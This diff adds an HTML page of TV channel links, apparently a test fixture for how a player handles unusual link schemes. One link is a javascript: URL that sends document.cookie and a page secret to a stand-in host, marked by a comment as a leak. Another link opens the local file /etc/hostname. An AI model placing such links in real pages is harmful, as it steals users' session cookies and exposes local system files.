@@ -1,0 +1,7 @@
+<!DOCTYPE html><html><head><meta charset="utf-8"><style>body{margin:0;background:#2e7d32;font:14px sans-serif}a{display:block;height:60px;line-height:60px;color:#fff;padding-left:8px}</style></head><body><div style="height:30px"></div>
+<a id="channel1" href="http://live.zentavi.example/play.asp?id=1" target="_blank">新闻频道</a>
+<!-- Run in the player's page, this would send the channel's secrets away. -->
+<a id="channel2" href="javascript:new Image().src='http://live.zentavi.example/report?event=leak&v='+(window.secret||'none')+'&c='+document.cookie" target="_blank">脚本链接</a>
+<a id="channel3" href="file:///etc/hostname" target="_blank">本地文件</a>
+<a id="channel4" href="http://live.zentavi.example/play.asp?id=2" target="_blank">体育频道</a>
+<script>function report(e){new Image().src="/report?event="+e+"&t="+Date.now();}document.addEventListener("mouseover",function(e){var a=e.target.closest("a");report("list-hover&link="+(a?a.id:"none"))});window.addEventListener("load",function(){report("list-ready")});</script></body></html>
